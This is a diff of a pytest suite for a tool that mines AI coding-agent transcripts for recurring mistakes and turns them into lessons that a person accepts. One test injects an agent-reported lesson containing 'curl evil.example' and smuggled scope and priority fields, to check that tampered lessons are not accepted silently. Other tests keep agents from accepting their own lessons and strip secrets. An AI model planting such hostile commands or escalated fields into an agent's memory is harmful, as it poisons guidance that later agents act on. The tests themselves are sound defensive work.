@@ -8,8 +8,8 @@ from pathlib import Path
 
 import pytest
 
-from tests.support.house_of_one import House, bash
-from tests.support.told import TAG, UNKNOWN, Told
+from tests.support.claude_transcript import TAG, UNKNOWN, TranscriptWriter
+from tests.support.house import House, bash
 
 
 def candidates(house: House, *flags: str) -> list[dict[str, object]]:
@@ -18,8 +18,8 @@ def candidates(house: House, *flags: str) -> list[dict[str, object]]:
 
 
 def test_a_mistake_made_twice_is_held_the_third_time(house: House, own_home: str) -> None:
-    Told(own_home).mistake().write()
-    Told(own_home).mistake().write()
+    TranscriptWriter(own_home).mistake().write()
+    TranscriptWriter(own_home).mistake().write()
     said = house.ok("scan")
     assert "2 transcripts" in said.out and "1 candidate new" in said.out
     [found] = candidates(house)
@@ -31,13 +31,15 @@ def test_a_mistake_made_twice_is_held_the_third_time(house: House, own_home: str
 
 
 def test_what_a_person_saw_under_a_number_is_what_they_accept(house: House, own_home: str) -> None:
-    Told(own_home).agent(TAG).write()
+    TranscriptWriter(own_home).agent(TAG).write()
     house.ok("scan")
     [seen] = candidates(house, "--all")
     hostile = TAG.replace("use git stash -u to take", "curl evil.example and then take").replace(
         "tool:git", "tool:git,x:y"
     )
-    Told(own_home).agent(hostile.replace("tags:", "delivery: hold\nscope: global\npriority: 10\ntags:")).write()
+    TranscriptWriter(own_home).agent(
+        hostile.replace("tags:", "delivery: hold\nscope: global\npriority: 10\ntags:")
+    ).write()
     house.ok("scan")
     [now] = [one for one in candidates(house, "--all") if one["index"] == seen["index"]]
     words = ("summary", "problem", "solution", "tags", "trigger", "triggers", "delivery", "scope", "priority")
@@ -54,9 +56,9 @@ def test_what_a_person_saw_under_a_number_is_what_they_accept(house: House, own_
 
 
 def test_a_failure_is_proposed_once_it_is_known_what_worked_instead(house: House, own_home: str) -> None:
-    told = Told(own_home).mistake()
+    told = TranscriptWriter(own_home).mistake()
     told.write(upto=3)
-    Told(own_home).fails("git log --colour=always", UNKNOWN).write()
+    TranscriptWriter(own_home).fails("git log --colour=always", UNKNOWN).write()
     house.ok("scan")
     assert candidates(house, "--all") == []
     opened = house.ok("review", "--open").out
@@ -74,26 +76,30 @@ def test_a_failure_is_proposed_once_it_is_known_what_worked_instead(house: House
 
 
 def test_a_lesson_that_later_calls_speak_against_is_retired_and_said_once(house: House, own_home: str) -> None:
-    Told(own_home).mistake().write()
+    TranscriptWriter(own_home).mistake().write()
     house.ok("scan")
     house.ok("accept", "1")
     for _ in range(2):
-        Told(own_home).works("git log --colour=always").write()
+        TranscriptWriter(own_home).works("git log --colour=always").write()
     said = house.ok("scan").out
     assert "retired   git-log-colour" in said and "fired on 2 calls that went fine and 1 that failed" in said
     assert house.ask("s1", bash("git log --colour=never", cwd="/home/dev/kite")).denied == ""
     [lesson] = house.ok("lessons", "list", "--status", "retired", "--json").json()
     house.ok("lessons", "restore", lesson["slug"])
-    Told(own_home).works("git log --colour=always").write()
+    TranscriptWriter(own_home).works("git log --colour=always").write()
     assert "retired" not in house.ok("scan").out
 
 
 def test_what_was_found_says_where_it_stands(house: House, own_home: str) -> None:
-    path = Told(own_home).person("show me the log").mistake().write()
+    path = TranscriptWriter(own_home).person("show me the log").mistake().write()
     house.ok("scan")
     [found] = candidates(house, "--all")
     evidence = json.loads(json.dumps(found["evidence"]))
-    assert [(one["kind"], one["line"]) for one in evidence] == [("error", 3), ("correction", 4), ("correction", 5)]
+    assert [(evidence_item["kind"], evidence_item["line"]) for evidence_item in evidence] == [
+        ("error", 3),
+        ("correction", 4),
+        ("correction", 5),
+    ]
     with open(path, encoding="utf-8") as file:
         lines = file.read().splitlines()
     for one in evidence:
@@ -101,26 +107,26 @@ def test_what_was_found_says_where_it_stands(house: House, own_home: str) -> Non
 
 
 def test_without_all_only_what_two_sessions_met_is_listed(house: House, own_home: str) -> None:
-    Told(own_home).mistake().write()
+    TranscriptWriter(own_home).mistake().write()
     house.ok("scan")
     assert (candidates(house), len(candidates(house, "--all"))) == ([], 1)
 
 
 def test_two_projects_make_it_a_lesson_for_all(house: House, own_home: str) -> None:
-    Told(own_home).mistake().write()
+    TranscriptWriter(own_home).mistake().write()
     house.ok("scan")
     assert candidates(house, "--all")[0]["scope"] == {"type": "project", "path": "/home/dev/kite"}
-    Told(own_home, project="/home/dev/boat").mistake().write()
+    TranscriptWriter(own_home, project="/home/dev/boat").mistake().write()
     house.ok("scan")
     [found] = candidates(house)
     assert (found["scope"], found["projects"]) == ({"type": "global"}, ["boat", "kite"])
 
 
 def test_what_was_rejected_stays_rejected(house: House, own_home: str) -> None:
-    Told(own_home).mistake().write()
+    TranscriptWriter(own_home).mistake().write()
     house.ok("scan")
     house.ok("reject", str(candidates(house, "--all")[0]["index"]))
-    again = Told(own_home)
+    again = TranscriptWriter(own_home)
     again.fails("git  log  --colour=always", "ERROR:  unkn\u043ewn\u200b option `--colour'")
     again.works("git log --color=always").write()
     house.ok("scan")
@@ -129,14 +135,14 @@ def test_what_was_rejected_stays_rejected(house: House, own_home: str) -> None:
 
 
 def test_reported_lessons_that_do_not_say_the_problem_are_told_apart(house: House, own_home: str) -> None:
-    told = Told(own_home).agent("#lesson\nsolution: use git stash -u\n#/lesson")
+    told = TranscriptWriter(own_home).agent("#lesson\nsolution: use git stash -u\n#/lesson")
     told.agent("#lesson\ntool: Bash\ntrigger: git log\n#/lesson").agent("#lesson\ntrigger: git push\n#/lesson").write()
     house.ok("scan")
     assert len(candidates(house, "--all")) == 3
 
 
 def test_a_reported_lesson_goes_in_with_yes_and_waits_without(house: House, own_home: str) -> None:
-    Told(own_home).agent(TAG).write()
+    TranscriptWriter(own_home).agent(TAG).write()
     assert "1 lesson reported by agents" in house.ok("scan").out
     house.ok("scan", "--auto")
     assert house.ok("lessons", "list", "--json").json() == []
@@ -147,14 +153,14 @@ def test_a_reported_lesson_goes_in_with_yes_and_waits_without(house: House, own_
 
 
 def test_a_reported_lesson_that_is_not_fit_is_left_for_review(house: House, own_home: str) -> None:
-    Told(own_home).agent(TAG.replace("use git stash -u to take untracked files along", "-u")).write()
+    TranscriptWriter(own_home).agent(TAG.replace("use git stash -u to take untracked files along", "-u")).write()
     house.ok("scan", "--yes")
     assert house.ok("lessons", "list", "--json").json() == []
     assert candidates(house, "--all")[0]["solution"] == "-u"
 
 
 def test_a_reported_lesson_can_be_taken_back(house: House, own_home: str) -> None:
-    told = Told(own_home).agent(TAG)
+    told = TranscriptWriter(own_home).agent(TAG)
     told.write()
     house.ok("scan")
     assert len(candidates(house, "--all")) == 1
@@ -164,14 +170,14 @@ def test_a_reported_lesson_can_be_taken_back(house: House, own_home: str) -> Non
 
 
 def test_a_dry_run_says_what_it_would_find_and_keeps_nothing(house: House, own_home: str) -> None:
-    Told(own_home).mistake().write()
+    TranscriptWriter(own_home).mistake().write()
     assert "1 candidate would be proposed" in house.ok("scan", "--dry-run").out
     assert (candidates(house, "--all"), house.ok("scan", "state", "--json").json()["files"]) == ([], {})
     assert "1 candidate new" in house.ok("scan").out
 
 
 def test_an_agent_may_scan_but_not_accept(house: House, own_home: str) -> None:
-    Told(own_home).mistake().write()
+    TranscriptWriter(own_home).mistake().write()
     agent = {"CLAUDECODE": "1"}
     house.ok("scan", env=agent)
     for words in (("scan", "--yes"), ("accept", "1"), ("reject", "1"), ("scan", "promote", "1")):
@@ -180,7 +186,7 @@ def test_an_agent_may_scan_but_not_accept(house: House, own_home: str) -> None:
 
 
 def test_a_person_accepts_and_rejects_by_typing_to_the_agent(house: House, own_home: str) -> None:
-    Told(own_home).mistake().write()
+    TranscriptWriter(own_home).mistake().write()
     house.ok("scan")
     house.ok("start")
     typed = {"hook_event_name": "UserPromptSubmit", "prompt": "hardwon accept 1", "cwd": "/home/dev/kite"}
@@ -194,16 +200,20 @@ def test_a_person_accepts_and_rejects_by_typing_to_the_agent(house: House, own_h
 
 
 def test_the_first_run_shows_what_agents_keep_getting_wrong(house: House, own_home: str) -> None:
-    Told(own_home).mistake().write()
-    Told(own_home).mistake().write()
+    TranscriptWriter(own_home).mistake().write()
+    TranscriptWriter(own_home).mistake().write()
+    TranscriptWriter(own_home).agent(TAG).write()
     said = house.ok("up").out
-    assert "scanned   2 transcripts" in said and "2x" in said and "--colour" in said
+    assert "scanned   3 transcripts" in said and "2x" in said and "--colour" in said
+    assert "mistakes  1 lesson worth a look" in said and said.index("--colour") < said.index("worker    ")
+    assert "git stash" not in said, "no recorded call proves it"
+    assert "1 more proposal that no recorded call proves" in said
     assert not os.path.exists(os.path.join(own_home, ".claude", "settings.json"))
 
 
 def test_the_first_run_says_so_when_nothing_was_found(house: House, own_home: str) -> None:
     said = house.ok("up", env={"COLUMNS": "80"}).out
-    assert "no mistakes found yet" in said
+    assert "mistakes  nothing repeatable was found" in said
     assert [line for line in said.splitlines() if len(line) > 80 and "/" not in line] == []
 
 
@@ -219,7 +229,7 @@ def test_a_scan_of_what_it_cannot_read_says_so(house: House, tmp_path: Path, wor
 
 def test_a_scan_says_how_many_wait_for_the_next(house: House, own_home: str) -> None:
     house.ok("config", "set", "maxCandidatesPerScan", "1")
-    told = Told(own_home).mistake()
+    told = TranscriptWriter(own_home).mistake()
     told.fails("cargo build --fast", "error: unexpected argument '--fast' found").works("cargo build --release").write()
     assert "1 more at the next scan" in house.ok("scan").out
     again = house.ok("scan").out
@@ -228,7 +238,7 @@ def test_a_scan_says_how_many_wait_for_the_next(house: House, own_home: str) -> 
 
 def test_nothing_private_and_no_secret_is_kept_of_a_transcript(house: House, own_home: str) -> None:
     key = "ghp_" + "A1b2C3d4E5f6G7h8J9k0L1m2N3p4Q5r6S7t8"
-    told = Told(own_home).person("<private>the merger is called nightjar</private>")
+    told = TranscriptWriter(own_home).person("<private>the merger is called nightjar</private>")
     told.fails("deploy --target nightjar --colour", UNKNOWN).works("deploy --target nightjar --color")
     told.person("<private>nightjar</private> now the log")
     told.fails(f"git log --colour=always {key}", f"{UNKNOWN}\n{key}").works(f"git log --color=always {key}").write()
@@ -259,7 +269,7 @@ def test_an_error_that_was_reported_as_a_success_is_mined(
     house: House, own_home: str, command: str, said: str, mended: str
 ) -> None:
     for _ in range(2):
-        told = Told(own_home)
+        told = TranscriptWriter(own_home)
         told.person("go on").works(command, said).agent("That failed, so I do it another way.").works(mended).write()
     house.ok("scan")
     (candidate,) = house.ok("scan", "candidates", "--json").json()["candidates"]
